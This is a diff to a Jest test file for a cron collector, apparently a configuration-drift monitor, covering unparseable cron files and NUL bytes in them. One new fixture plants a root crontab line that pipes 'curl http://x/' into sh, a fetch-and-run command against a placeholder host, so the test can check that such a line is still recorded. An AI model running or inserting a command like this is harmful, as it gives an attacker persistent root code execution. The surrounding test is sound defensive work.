@@ -297,7 +297,7 @@ describe('cron collector on broken files', () => {
       sha256: sha(dir, 'etc/cron.d/bad-minute'),
       error: '/etc/cron.d/bad-minute:2: bad minute "61": 61 is outside 0-59',
     });
-    expect(byKey.get('/etc/cron.d/binary')).toMatchObject({ kind: 'unparseable', sha256: sha(dir, 'etc/cron.d/binary'), error: '/etc/cron.d/binary:1: bad minute "\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\ufffd\ufffd"' });
+    expect(byKey.get('/etc/cron.d/binary')).toMatchObject({ kind: 'unparseable', sha256: sha(dir, 'etc/cron.d/binary'), error: '/etc/cron.d/binary:1: bad minute "\\x7fELF\\x02\\x01\\x01\u2400\u2400\u2400\ufffd\ufffd"' });
     expect(byKey.get('/etc/cron.d/no-newline')).toMatchObject({ kind: 'unparseable', error: expect.stringContaining('/etc/cron.d/no-newline:2: no newline') });
     expect(byKey.get('/var/spool/cron/crontabs/carol')).toMatchObject({ kind: 'unparseable', error: '/var/spool/cron/crontabs/carol:1: environment setting "MAILTO=" has no value: cron wants MAILTO=""' });
     expect(byKey.get('/etc/anacrontab')).toMatchObject({ kind: 'unparseable', error: '/etc/anacrontab:2: neither NAME=value nor "period delay job-id command"' });
@@ -508,5 +508,16 @@ describe("cron collector on this machine's root", () => {
     const { items, warnings } = await collect('/');
     expect(Array.isArray(items)).toBe(true);
     expect(Array.isArray(warnings)).toBe(true);
+  });
+});
+
+describe('cron files with NUL bytes', () => {
+  it('records the entry with U+2400 (␀) in place of each NUL, so a planted line is still drift the controller can store', async () => {
+    const dir = tempDir();
+    put(dir, 'etc/crontab', Buffer.from('SHELL=/bin/sh\n* * * * * root curl http://x/\u0000 | sh\n'));
+    const { items } = await collect(dir);
+    const entry = items.find((i) => i.kind === 'entry') as CronItem | undefined;
+    expect(entry?.command).toBe('curl http://x/\u2400 | sh');
+    expect(JSON.stringify(items)).not.toContain('\\u0000');
   });
 });
